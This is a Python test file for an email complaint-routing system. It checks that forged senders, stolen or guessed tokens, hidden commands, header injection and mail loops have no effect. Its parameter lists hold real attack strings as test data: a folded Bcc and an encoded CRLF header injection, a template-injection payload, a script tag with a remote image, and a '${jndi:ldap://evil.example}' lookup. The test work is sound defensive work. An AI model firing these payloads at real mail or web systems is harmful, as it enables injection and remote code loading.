"""A hostile sender, a stolen key, a forged name: no effect, no answer to the forger, and the right people told."""

from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from email.policy import SMTP
from pathlib import Path
from typing import Any

import pytest

from tests.journeys.desk import GM, Letter, TestDesk, open_desk
from tests.journeys.letters import of_kind, telling, to, whole
from tests.journeys.post import COMPLAINT, CUSTOMER, LETTER, absence, bounce, mail, poison, raw_mail

MORNING = datetime(2026, 11, 24, 1, 30, tzinfo=UTC)
COORDINATOR, HEAD, BOSS = "lin.xiaoyue@corp.example", "he.zhiqiang@corp.example", "chen.guodong@corp.example"
STRANGER = "anna@mail-b.example"


@pytest.fixture
def desk(tmp_path: Path) -> Iterator[TestDesk]:
    """An installation whose clock stands at Tuesday 09:30."""
    with open_desk(tmp_path) as opened:
        opened.now = MORNING
        opened.one_pass()
        yield opened


def when(desk: TestDesk) -> str:
    """The desk's time as a Date header."""
    return desk.now.strftime("%a, %d %b %Y %H:%M:%S +0000")


def written(desk: TestDesk, subject: str, text: str, *, sender: str = CUSTOMER, **fields: str) -> list[Letter]:
    """An authenticated mail, and what left because of it."""
    return desk.receive(mail(subject, text, sender=sender, date=when(desk), **fields), authentication="pass")


def begun(desk: TestDesk) -> dict[str, Letter]:
    """A customer's complaint that the coordinator has given to logistics: its letters by their reader."""
    letters = written(desk, COMPLAINT, LETTER)
    notice = to(of_kind(letters, "manager.notice"), COORDINATOR)[0]
    inside = written(desk, f"Re: [{notice.token}]", "转 物流部", sender=COORDINATOR)
    assignment = to(of_kind(inside, "handler.assignment"), HEAD)[0]
    first = to(of_kind(letters, "handler.assignment"), "tang.ning@corp.example")[0]
    ack = of_kind(letters, "requester.acknowledgement")[0]
    desk.now += timedelta(minutes=1)
    return {"notice": notice, "assignment": assignment, "first": first, "ack": ack}


def state(desk: TestDesk) -> tuple[str, str]:
    """Handler and state of the first case."""
    case = min(desk.cases(), key=lambda one: str(one["number"]))
    return case["handler"], case["state"]


def first_of(desk: TestDesk) -> str:
    """What became of the first mail."""
    return str(desk.rows("select disposition from journal order by id limit 1")[0][0])


def disposition(desk: TestDesk) -> str:
    """What became of the last mail."""
    return str(desk.rows("select disposition from journal order by id desc limit 1")[0][0])


# -- a From that is not believed

TRUSTED = "mx.corp.example"
FORGED: list[Any] = [
    pytest.param([f"{TRUSTED}; dmarc=fail header.from=corp.example"], "refused", id="fail"),
    pytest.param([f"{TRUSTED}; spf=fail smtp.mailfrom=corp.example"], "refused", id="spf-fail"),
    pytest.param([f"{TRUSTED}; dkim=pass header.d=evil.example"], "confirm-first", id="anothers-signature"),
    pytest.param([f"{TRUSTED}; dkim=pass header.d=corp.example.evil.example"], "confirm-first", id="longer-domain"),
    pytest.param([f"{TRUSTED}; spf=pass smtp.helo=corp.example"], "confirm-first", id="greeting-only"),
    pytest.param([f"{TRUSTED}; none (dmarc=pass header.from=corp.example)"], "confirm-first", id="in-a-comment"),
    pytest.param([f'{TRUSTED}; spf=none reason="; dmarc=pass header.from=corp.example"'], "confirm-first",
                 id="in-a-string"),
    pytest.param(["mx.evil.example; dmarc=pass header.from=corp.example"], "confirm-first", id="anothers-header"),
    pytest.param([f"{TRUSTED}.evil.example; dmarc=pass header.from=corp.example"], "confirm-first", id="alike-id"),
    pytest.param(["mx.evil.example; dmarc=pass header.from=corp.example", f"{TRUSTED}; dmarc=fail header.from=corp.example"],
                 "refused", id="evil-on-top"),
    pytest.param([f"{TRUSTED}; dmarc=fail header.from=corp.example", f"{TRUSTED}; dmarc=pass header.from=corp.example"],
                 "refused", id="second-one-below"),
    pytest.param([f"{TRUSTED}; auth=pass smtp.auth=wang.qiang2; spf=pass smtp.mailfrom=wang.qiang2@corp.example"],
                 "confirm-first", id="a-colleagues-login"),
    pytest.param([f"{TRUSTED}; auth=pass smtp.auth=chen.guodong@evil.example"], "confirm-first", id="login-elsewhere"),
    pytest.param([], "confirm-first", id="none"),
]  # fmt: skip


def forgery(results: list[str], subject: str, text: str, *, sender: str, date: str) -> bytes:
    """A mail with these Authentication-Results, topmost first."""
    heads = "".join(f"Authentication-Results: {one}\r\n" for one in results)
    return heads.encode() + mail(subject, text, sender=sender, date=date)


@pytest.mark.parametrize(("results", "outcome"), FORGED)
def test_an_order_in_the_gms_name_has_no_effect(desk: TestDesk, results: list[str], outcome: str) -> None:
    """With the handler's own key too: refused and told, or asked back at the directory's address; nothing is done."""
    letters = begun(desk)
    subject = f"Re: [{letters['assignment'].token}]"

    went = desk.receive(forgery(results, subject, "转 质量部", sender=HEAD, date=when(desk)))

    assert (HEAD, "assigned") == state(desk)
    assert outcome == disposition(desk)
    told = {"refused": {("manager.security", COORDINATOR), ("staff.security", HEAD)},
            "confirm-first": {("staff.confirmation", HEAD)}}  # fmt: skip
    assert told[outcome] == {(letter.kind, letter.to) for letter in went}


def test_a_storm_of_forgeries_does_not_become_a_storm_of_notices(desk: TestDesk) -> None:
    """Twenty are told at once, the rest stands in the digest; no case, nothing to the forger."""
    went = desk.receive(*(
        forgery([f"{TRUSTED}; dmarc=fail header.from=corp.example"], f"急 {n}", "转 物流部", sender=BOSS, date=when(desk))
        for n in range(30)
    ))  # fmt: skip

    assert 20 == len(to(went, BOSS))
    assert [] == desk.cases()
    assert {BOSS, COORDINATOR} == {letter.to for letter in went}


# -- keys in other hands

THIEVES: list[Any] = [
    pytest.param("wang.qiang2@corp.example", {}, id="a-colleague"),
    pytest.param("tang.ning@corp.example", {}, id="the-handler-of-before"),
    pytest.param(STRANGER, {}, id="an-outsider"),
    pytest.param("he.zhiqiang@corp-example.com", {}, id="alike-domain"),
    pytest.param("hе.zhiqiang@corp.example", {}, id="cyrillic-letter"),
    pytest.param("ｈe.zhiqiang@corp.example", {}, id="wide-letter"),
    pytest.param("gone@corp.example", {}, id="not-in-the-directory-any-more"),
    pytest.param(HEAD, {"Sender": STRANGER}, id="sender-outside"),
    pytest.param(HEAD, {"Sender": "wang.qiang2@corp.example"}, id="sender-no-assistant"),
    pytest.param(f'"{HEAD}" <{STRANGER}>', {}, id="address-as-display-name"),
]


@pytest.mark.parametrize("where", ["subject", "address"])
@pytest.mark.parametrize(("thief", "fields"), THIEVES)
def test_a_stolen_key_opens_nothing(desk: TestDesk, thief: str, fields: dict[str, str], where: str) -> None:
    """Short or long, in whosever hand: kept apart, the key's person and the coordinator told, no word to the thief."""
    assignment = begun(desk)["assignment"]
    subject = f"Re: [{assignment.token}]" if where == "subject" else "Re: 请承办"
    address = GM if where == "subject" else assignment.reply_to
    head = "".join(f"{name}: {value}\r\n" for name, value in fields.items())
    raw = f"From: {thief}\r\nTo: {address}\r\nSubject: {subject}\r\nDate: {when(desk)}\r\n{head}\r\n转 质量部\r\n"

    went = desk.receive(raw.encode(), authentication="pass")

    assert (HEAD, "assigned") == state(desk)
    assert "misdirected" == disposition(desk)
    assert {("staff.misdirected", HEAD), ("staff.misdirected", COORDINATOR)} == {(x.kind, x.to) for x in went}


def test_a_handlers_old_key_orders_nothing_after_the_case_went_on(desk: TestDesk) -> None:
    """Who had the case before is told that it is another's now."""
    first = begun(desk)["first"]

    went = written(desk, f"Re: [{first.token}]", "转 质量部", sender="tang.ning@corp.example")

    assert (HEAD, "assigned") == state(desk)
    assert ["staff.refusal"] == [letter.kind for letter in went]


def test_an_assistant_who_sends_in_the_gms_name_has_an_assistants_rights(desk: TestDesk) -> None:
    """`Sender` names the assistant: routing is done in the assistant's own name, answering is refused."""
    text = "我上月举报采购部主管黎军收回扣之后，他报复我，扣光奖金还威胁开除写信的人。"
    letters = written(desk, "打击报复", text, sender="庄雪梅 <zhuang.xuemei@corp.example>")
    token = to(letters, BOSS)[0].subject
    fields = {"Sender": "ding.ning@corp.example"}

    refused = written(desk, f"Re: {token}", "答复：已经查实，黎军停职，奖金三天内补发。", sender=BOSS, **fields)

    assert [] == of_kind(refused, "requester.answer") + to(refused, "zhuang.xuemei@corp.example")
    assert "assigned" == state(desk)[1]


@pytest.mark.parametrize("token", ["NUMBER-0123ABCD", "NUMBER-ZZZZZZZZ", "NUMBER", "GM-2026-999999-0123ABCD"])
def test_guessed_keys_open_nothing(desk: TestDesk, token: str) -> None:
    """A guess is a new letter at best; after five in an hour its sender's mails with keys are set apart."""
    letters = begun(desk)
    number = letters["ack"].token[:14]

    for n in range(7):
        desk.now += timedelta(seconds=1)
        written(desk, f"Re: [{token.replace('NUMBER', number)}] {n}", "转 质量部", sender=STRANGER)

    assert (HEAD, "assigned") == state(desk)
    assert ("quarantined" if "-0123ABCD" in token or "ZZZZ" in token else "new-case") == disposition(desk)


def test_a_forgers_guesses_do_not_lock_out_the_real_person(desk: TestDesk) -> None:
    """Wrong keys in a mail that fails the checks are nobody's strikes."""
    ack = begun(desk)["ack"]
    number = ack.token[:14]
    desk.receive(*(
        forgery([f"{TRUSTED}; dmarc=fail header.from=mail-a.example"], f"Re: [{number}-0123ABCD] {n}", "满意", sender=CUSTOMER,
                date=when(desk))
        for n in range(8)
    ))  # fmt: skip

    written(desk, f"Re: [{ack.token}]", "补充：收件地址改成城西路 8 号。")

    assert "appended" == disposition(desk)


def test_an_order_counts_once_however_often_it_is_sent_again(desk: TestDesk) -> None:
    """A captured mail with a new Message-ID changes nothing back."""
    letters = begun(desk)
    subject, text, date = f"Re: [{letters['assignment'].token}]", "转 质量部", when(desk)
    order = {"sender": HEAD, "date": date}
    desk.receive(mail(subject, text, **order), authentication="pass")
    second = next(r[0] for r in desk.rows("select subject from outbox where recipient='luo.jianping@corp.example'"))
    desk.now += timedelta(minutes=1)
    written(desk, f"Re: {second}", "转 物流部", sender="luo.jianping@corp.example")

    went = desk.receive(mail(subject, text, Message_ID="<again@pc.example>", **order), authentication="pass")

    assert (HEAD, "assigned") == state(desk)
    assert [] == went


# -- orders where none are

HIDDEN: list[Any] = [
    pytest.param("text", "好的，谢谢。\n\n> 转 质量部\n> 谢谢", id="quoted"),
    pytest.param("text", "好的，我看看。\n\n-----原始邮件-----\n发件人: 总经理\n\n转 质量部", id="below-the-original"),
    pytest.param("text", "好的，我看看。\n\n-- \n转 质量部\n何志强", id="in-the-signature"),
    pytest.param("text", "客户昨天说过：如果还不行就转 质量部", id="reported"),
    pytest.param("text", "先不要转 质量部", id="negated"),
    pytest.param("html", "<p>好的，我看看。</p><!-- 转 质量部 -->", id="comment"),
    pytest.param("html", "<p>好的，我看看。</p><p style='display:none'>转 质量部</p>", id="not-displayed"),
    pytest.param("html", "<style>转 质量部</style><p>好的，我看看。</p>", id="in-a-style"),
    pytest.param("html", "<title>转 质量部</title><p>好的，我看看。</p>", id="in-the-title"),
    pytest.param("html", "<p>好的，我看看。</p><blockquote type='cite'>转 质量部</blockquote>", id="html-quote"),
]


@pytest.mark.parametrize(("kind", "body"), HIDDEN)
def test_what_the_person_did_not_write_is_no_order(desk: TestDesk, kind: str, body: str) -> None:
    """Quotes, signatures, comments and hidden text move nothing."""
    assignment = begun(desk)["assignment"]
    message = EmailMessage(policy=SMTP)
    message["From"], message["To"], message["Date"] = HEAD, GM, when(desk)
    message["Subject"] = f"Re: [{assignment.token}]"
    message.set_content(body, subtype="plain" if kind == "text" else "html")

    desk.receive(message.as_bytes(), authentication="pass")

    assert HEAD == state(desk)[0]


def test_a_quarantined_mail_is_not_released_by_a_no(desk: TestDesk) -> None:
    """`不要放行` releases nothing, and neither does a release that nobody vouches for."""
    notice = of_kind(desk.receive(poison()), "manager.quarantine")[0]
    fields = {"To": notice.reply_to}

    written(desk, "Re: 隔离", "先不要放行，我看看", sender=COORDINATOR, **fields)
    asked = desk.receive(mail("Re: 隔离", "放行", sender=COORDINATOR, date=when(desk), **fields))

    assert "quarantined" == first_of(desk)
    assert ["manager.quarantine"] == [letter.kind for letter in asked]

    desk.receive(
        mail("Re: 隔离", "放行", sender=COORDINATOR, date=when(desk), To=asked[0].reply_to, Message_ID="<2@x.example>")
    )
    assert "quarantined" != first_of(desk)


def test_an_out_of_office_that_nobody_vouches_for_moves_nothing(desk: TestDesk) -> None:
    """A forged absence with a guessed number does not hand the case to the stand-in."""
    number = begun(desk)["ack"].token[:14]
    raw = mail(f"自动回复：外出 {number}", "我从11月24日到12月31日出差。", sender=HEAD, Auto_Submitted="auto-replied")

    went = desk.receive(raw)

    assert (HEAD, []) == (state(desk)[0], to(went, "wang.lei@corp.example"))


# -- what a letter does to those who read it

NASTY: list[Any] = [
    pytest.param("投诉：发货太慢\r\n Bcc: victim@mail-c.example", id="folded-bcc"),
    pytest.param("=?utf-8?B?5oqV6K+JDQpCY2M6IHZpY3RpbUBtYWlsLWMuZXhhbXBsZQ==?=", id="encoded-line-break"),
    pytest.param("=?utf-8?Q?=E6=8A=95=E8=AF=89=00=0D=0AX-Evil:_1?=", id="encoded-nul"),
    pytest.param(
        "投诉 {{ 7*7 }} {% for x in ().__class__.__base__.__subclasses__() %}{{ x }}{% endfor %}", id="template"
    ),
    pytest.param("投诉 <script>alert(1)</script><img src=http://evil.example/x.png>", id="script"),
    pytest.param("投诉 \u202egnp.exe\u202c\u2066\u200b", id="right-to-left"),
    pytest.param("投诉 ${jndi:ldap://evil.example} %s %(x)s {0}", id="format"),
]
EVIL = ("\u202e", "\u2066", "<script", "<img", 'http-equiv="refresh')


@pytest.mark.parametrize("place", ["name", "subject and text"])
@pytest.mark.parametrize("nasty", NASTY)
def test_nothing_in_a_letter_acts_in_the_letters_about_it(desk: TestDesk, nasty: str, place: str) -> None:
    """No header of its own, no template run, no script, no picture from elsewhere, no text turned round."""
    subject = nasty if place != "name" else COMPLAINT
    name = nasty.partition("\r\n")[0].replace('"', "") if place == "name" else "赵磊"
    quoted = name if name.startswith("=?") else f'"{name}"'
    text = f"{LETTER}\r\n{nasty}" if place != "name" else LETTER
    raw = f"From: {quoted} <{CUSTOMER}>\r\nTo: {GM}\r\nSubject: {subject}\r\nDate: {when(desk)}\r\nContent-Type: text/plain; charset=utf-8\r\n\r\n{text}"

    letters = desk.receive(raw.encode(), authentication="pass")

    assert letters
    for letter in letters:
        html = "".join(
            bytes(part.get_payload(decode=True)).decode()
            for part in letter.message.walk() if part.get_content_type() == "text/html"
        )  # fmt: skip
        names = [header.lower() for header in letter.message]
        assert {"bcc", "x-evil"}.isdisjoint(names)
        assert len(names) == len(set(names))
        assert not [word for word in EVIL if word in html.lower()]
        assert not [word for word in ("\u202e", "\u2066", "\n") if word in letter.subject]
        assert not [word for word in ("投诉 49", "<class") if word in whole(letter)]


def test_a_megabyte_of_subject_is_one_case_and_short_letters(desk: TestDesk) -> None:
    """The subject is cut before it is shown, in subjects, in the digest and in the database."""
    letters = desk.receive(raw_mail(b"x" * 1_000_000, LETTER.encode(), charset="utf-8"), authentication="pass")
    letters += desk.later(timedelta(hours=24))

    assert 1 == len(desk.rows("select id from journal"))
    assert max(len(letter.raw) for letter in letters) < 60_000


# -- acknowledgements that would hit others

SILENT: list[Any] = [
    pytest.param({"To": ", ".join([GM, *(f"u{n}@mail-c.example" for n in range(11))])}, "pass", id="many-recipients"),
    pytest.param({"To": STRANGER, "Cc": GM}, "pass", id="only-in-cc"),
    pytest.param({"From": "", "Return_Path": "<>"}, "pass", id="nobody"),
    pytest.param({"Return_Path": "<>"}, "pass", id="null-path"),
    pytest.param({"List_Id": "<news.mail-a.example>"}, "pass", id="list"),
    pytest.param({"Precedence": "bulk"}, "pass", id="bulk"),
    pytest.param({"Auto_Submitted": "auto-generated"}, "pass", id="machine"),
    pytest.param({"From": GM}, "pass", id="from-us"),
    pytest.param({"From": "gm+abc@corp.example"}, "pass", id="from-us-with-a-tag"),
    pytest.param({"From": "MAILER-DAEMON@mx.evil.example"}, "pass", id="daemon"),
    pytest.param({"From": "no-reply@mail-a.example"}, "pass", id="no-reply"),
    pytest.param({}, "fail", id="failed"),
    pytest.param({"From": f'"chen.guodong@corp.example" <{STRANGER}>'}, "pass", id="lying-name"),
    pytest.param({"From": f'"chen.guodong＠corp.example" <{STRANGER}>'}, "pass", id="lying-wide-name"),
]


@pytest.mark.parametrize(("fields", "authentication"), SILENT)
def test_no_acknowledgement_goes_where_none_should(desk: TestDesk, fields: dict[str, str], authentication: str) -> None:
    """Lists, machines, forgers, crowds and ourselves get nothing."""
    letters = desk.receive(mail(**{"date": when(desk), **fields}), authentication=authentication)
    letters += desk.later(timedelta(minutes=30))

    assert [] == [(letter.to, letter.kind) for letter in letters if not letter.to.endswith("@corp.example")]
    assert [] == of_kind(letters, "requester.acknowledgement")


REPLY_TO: list[Any] = [
    pytest.param("victim@mail-c.example", "none", CUSTOMER, id="elsewhere-unproven"),
    pytest.param(GM, "pass", CUSTOMER, id="ourselves"),
    pytest.param("gm+x@corp.example", "pass", CUSTOMER, id="ourselves-with-a-tag"),
    pytest.param("own@mail-z.example", "pass", "own@mail-z.example", id="elsewhere-proven"),
]


@pytest.mark.parametrize(("wish", "authentication", "expected"), REPLY_TO)
def test_a_reply_to_is_followed_only_where_it_is_safe(
    desk: TestDesk, wish: str, authentication: str, expected: str
) -> None:
    """Never to ourselves, and elsewhere only when the mail is authenticated."""
    letters = desk.receive(mail(Reply_To=wish, date=when(desk)), authentication=authentication)

    assert [expected] == [letter.to for letter in of_kind(letters, "requester.acknowledgement")]


def test_one_sender_cannot_shower_others_with_acknowledgements(desk: TestDesk) -> None:
    """Proven mails of one sender with a hundred Reply-To addresses: one acknowledgement in ten minutes, five a day."""
    letters = desk.receive(*(
        mail(f"投诉第 {n} 单", LETTER, Reply_To=f"victim{n}@mail-c.example", date=when(desk)) for n in range(12)
    ), authentication="pass")  # fmt: skip
    assert 1 == len(of_kind(letters, "requester.acknowledgement"))

    for _ in range(20):
        letters += desk.later(timedelta(minutes=11))
    victims = [letter.to for letter in of_kind(letters, "requester.acknowledgement")]
    assert len(victims) <= 12
    assert len(victims) == len(set(victims))


@pytest.mark.parametrize(
    "subject", ["请点击 http://evil.example/login", "您的账号 evil.example 已过期", "www.evil.example"]
)
def test_an_acknowledgement_carries_no_link_of_its_subject(desk: TestDesk, subject: str) -> None:
    """A subject with a link is not quoted, also to a known sender."""
    begun(desk)
    desk.now += timedelta(minutes=20)

    letters = written(desk, subject, LETTER)

    assert [] == telling(of_kind(letters, "requester.acknowledgement"), "evil.example")


# -- reports and loops

BOUNCES: list[Any] = [
    pytest.param(STRANGER, b"Message-ID: <nobody@corp.example>", id="of-no-mail-of-ours"),
    pytest.param("wang.qiang2@corp.example", None, id="of-another-recipient"),
]


@pytest.mark.parametrize(("recipient", "original"), BOUNCES)
def test_a_forged_bounce_marks_nothing(desk: TestDesk, recipient: str, original: bytes | None) -> None:
    """A report must know the mail and whom it went to."""
    assignment = begun(desk)["assignment"]

    desk.receive(bounce(recipient, original=original or assignment.raw))

    assert "report-unmatched" == disposition(desk)
    assert [] == desk.rows("select id from outbox where state = 'bounced'")


def test_two_installations_do_not_talk_to_each_other_for_ever(desk: TestDesk) -> None:
    """Our own letters, sent back by another machine as they are, are answered by none."""
    letters = list(begun(desk).values())

    went = desk.receive(*(
        letter.raw.replace(b"From: ", b"From: other@mail-b.example\r\nX-Old: ", 1) for letter in letters
    ), authentication="pass")  # fmt: skip

    assert [] == [letter for letter in went if letter.to == "other@mail-b.example"]


def test_our_own_answer_from_a_stranger_is_not_the_requesters(desk: TestDesk) -> None:
    """An absence notice of the victim, under the handler's key, makes no second handler of anybody."""
    assignment = begun(desk)["assignment"]

    went = desk.receive(absence(STRANGER, subject=f"Re: [{assignment.token}]"), authentication="pass")

    assert (HEAD, []) == (state(desk)[0], went)
